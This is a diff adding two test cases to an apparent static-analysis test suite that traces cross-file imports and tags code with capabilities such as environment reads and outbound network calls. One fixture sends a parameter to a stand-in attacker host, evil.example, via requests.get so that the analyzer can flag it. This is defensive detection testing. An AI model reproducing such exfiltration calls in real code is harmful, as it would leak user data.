@@ -36,6 +36,17 @@ _CASES: dict[str, tuple[dict[str, str], tuple[str, str, str | None]]] = {
         {"p/a.py": "from . import util\nutil.run('ls')\n", "p/util.py": "from os import system as run\n"},
         ("p/a.py", "process.shell", "ls"),
     ),
+    "an item of another file's environment": (
+        {"a.py": "from cfg import store\nstore['X']\n", "cfg.py": "import os\nstore = os.environ\n"},
+        ("a.py", "env.read", "X"),
+    ),
+    "an address that is known in part": (
+        {
+            "a.py": "from web import g\ndef f(x):\n    g('https://evil.example/' + x)\n",
+            "web.py": "import requests\ng = requests.get\n",
+        },
+        ("a.py", "net.outbound", "evil.example"),
+    ),
     "a client of another file": (
         {
             "a.py": "from web import client\nclient.get('https://x/')\n",
